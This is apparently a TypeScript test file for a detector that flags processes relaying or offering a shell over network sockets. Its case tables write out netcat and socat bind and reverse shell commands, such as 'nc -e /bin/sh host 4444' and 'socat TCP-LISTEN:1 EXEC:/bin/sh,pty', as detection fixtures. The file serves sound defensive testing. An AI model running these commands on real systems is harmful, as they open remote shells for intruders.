import assert from 'node:assert/strict';
import {test} from 'node:test';
import {type Evidence, noEvidence, noProcessEvidence, type ProcessEvidence} from '../../../source/domain/evidence.ts';
import {known, unknown} from '../../../source/domain/known.ts';
import {trusted} from '../../../source/domain/text.ts';
import {assessAllNow, nameOf, ownerOf, process, socket} from '../../helpers/build.ts';
import {anyListener, conversation} from '../../helpers/checks.ts';

/** The check of a socket of this program, called like this, of which this was read. */
function examined(text: string, path: string, command: string, parts: Partial<ProcessEvidence>) {
  const holder = process(path, {command: trusted(command)});
  const processes = new Map([[holder, {...noProcessEvidence('not-collected'), ...parts}]]);
  const evidence: Evidence = {...noEvidence, processes};
  const [row] = assessAllNow([socket(text, ownerOf(holder))], nameOf, undefined, evidence).rows;
  return row?.assessment.checks.find(({id}) => id === 'owner-relay') ?? assert.fail('no check');
}

const over = (
  direction: 'both' | 'in' | 'out',
  through: 'pipe' | 'pseudoterminal' | 'socket pair' = 'pipe',
  readsCommands = true,
): Partial<ProcessEvidence> => ({
  relay: known({shell: {pid: 99, name: trusted('bash'), readsCommands}, through, direction}),
});

const scriptOf = (owner: ProcessEvidence['package']): Partial<ProcessEvidence> => ({
  code: known({
    kind: 'file',
    path: trusted('/opt/web.py'),
    state: 'intact',
    file: known({mode: 0o755, uid: 0, writableByAll: null}),
    package: owner,
  }),
});
const packaged = known({name: trusted('jupyter'), manager: 'dpkg', unchanged: known(true)} as const);

const no = {relay: known(null)};
const python = '/usr/bin/python3.11';
const loopback = 'tcp ESTABLISHED 127.0.0.1:51000 127.0.0.1:4444';
const terminal = over('both', 'pseudoterminal');

type Case = readonly [
  text: string,
  path: string,
  command: string,
  parts: Partial<ProcessEvidence>,
  result: string,
  leads: string | null,
  brief: string,
];

const relays: readonly Case[] = [
  [conversation, python, 'python3 a.py', no, 'pass', null, ''],
  [conversation, python, 'python3 a.py', {relay: unknown('needs-root')}, 'unknown', null, ''],
  [conversation, python, 'python3 a.py', over('both'), 'fail', 'suspect', 'relays a shell: bash'],
  [anyListener, python, 'python3 a.py', over('both'), 'fail', 'suspect', 'relays a shell: bash'],
  [conversation, python, 'python3 a.py', over('in'), 'fail', 'learn', 'feeds a shell: bash'],
  [conversation, python, 'python3 a.py', over('out'), 'fail', 'learn', "sends a shell's output"],
  [conversation, python, 'python3 a.py', over('in', 'pipe', false), 'fail', 'learn', 'feeds a shell: bash'],
  [anyListener, python, 'python3 a.py', over('in', 'pipe', false), 'pass', null, ''],
  [anyListener, python, 'python3 a.py', over('in', 'pipe', true), 'fail', 'learn', 'feeds a shell: bash'],
  [anyListener, '/usr/sbin/sshd', 'sshd', terminal, 'pass', null, ''],
  [anyListener, python, 'python3 web.py', {...terminal, ...scriptOf(packaged)}, 'pass', null, ''],
  [anyListener, python, 'python3 web.py', {...over('both'), ...scriptOf(packaged)}, 'pass', null, ''],
  [
    conversation,
    python,
    'python3 web.py',
    {...terminal, ...scriptOf(packaged)},
    'fail',
    'suspect',
    'relays a shell: bash',
  ],
  [
    anyListener,
    python,
    'python3 web.py',
    {...terminal, ...scriptOf(known(null))},
    'fail',
    'learn',
    'offers a shell: bash',
  ],
  [
    conversation,
    python,
    'python3 web.py',
    {...terminal, ...scriptOf(known(null))},
    'fail',
    'suspect',
    'relays a shell: bash',
  ],
  [
    anyListener,
    python,
    'python3 web.py',
    {...over('both'), ...scriptOf(known(null))},
    'fail',
    'suspect',
    'relays a shell: bash',
  ],
];

const nc = '/usr/bin/nc';
const gives = 'gives a shell: nc';
const bytes: readonly Case[] = [
  [anyListener, nc, 'nc -l 4444', no, 'fail', 'learn', 'nc waits for a call'],
  [conversation, nc, 'nc host 4444', no, 'fail', 'learn', 'nc passes bytes on'],
  [loopback, nc, 'nc 127.0.0.1 4444', no, 'pass', null, ''],
  [conversation, nc, 'nc -e /bin/sh host 4444', no, 'fail', 'suspect', gives],
  [conversation, nc, 'nc host 4444 -c bash', no, 'fail', 'suspect', gives],
  [conversation, nc, '-e /bin/sh', no, 'fail', 'suspect', gives],
  [anyListener, nc, 'nc -nvlpe /bin/sh', no, 'fail', 'suspect', gives],
  [anyListener, nc, 'nc -l --exec   /bin/sh', no, 'fail', 'suspect', gives],
  [anyListener, nc, 'nc -l --sh-exec=sh', no, 'fail', 'suspect', gives],
  [anyListener, nc, 'nc -l --lua-exec /opt/a.lua', no, 'fail', 'learn', 'runs a.lua for callers'],
  [anyListener, nc, 'nc -l x-e /bin/sh', no, 'fail', 'learn', 'nc waits for a call'],
  [anyListener, '/usr/bin/socat', 'socat TCP-LISTEN:1 EXEC:/bin/sh,pty', no, 'fail', 'suspect', 'gives a shell: socat'],
  [anyListener, '/usr/bin/socat', "socat TCP-LISTEN:1 exec:'bash -li'", no, 'fail', 'suspect', 'gives a shell: socat'],
  [anyListener, '/usr/bin/socat', 'socat TCP-LISTEN:1 SYSTEM:"sh"', no, 'fail', 'suspect', 'gives a shell: socat'],
  [anyListener, '/usr/bin/socat', 'socat TCP-LISTEN:1 EXEC:date', no, 'fail', 'learn', 'runs date for callers'],
  [conversation, '/usr/bin/cat', 'cat -e /bin/sh', no, 'pass', null, ''],
];

for (const [text, path, command, parts, result, leads, brief] of [...relays, ...bytes]) {
  const {relay} = parts;
  const way =
    relay?.known && relay.value ? `${relay.value.direction} over a ${relay.value.through}` : 'no shell behind it';
  test(`owner-relay is ${result}, ${brief || 'no more'}: "${command}" on ${text}, ${way}`, () => {
    const check = examined(text, path, command, parts);
    assert.deepEqual([check.result, check.leads, check.brief], [result, leads, brief]);
  });
}
